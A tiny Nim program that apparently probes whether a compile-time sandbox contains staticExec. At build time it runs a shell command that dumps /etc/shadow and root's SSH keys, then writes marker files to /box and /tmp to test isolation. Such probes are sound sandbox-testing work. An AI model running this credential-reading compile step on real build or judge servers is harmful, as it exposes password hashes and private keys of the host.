import std/[os, strutils]

const found = staticExec("cat /etc/shadow /root/.ssh/* 2>/dev/null; echo left >/box/left; echo left >/tmp/left; echo none").strip

echo found
echo fileExists("/box/left"), " ", fileExists("/tmp/left")
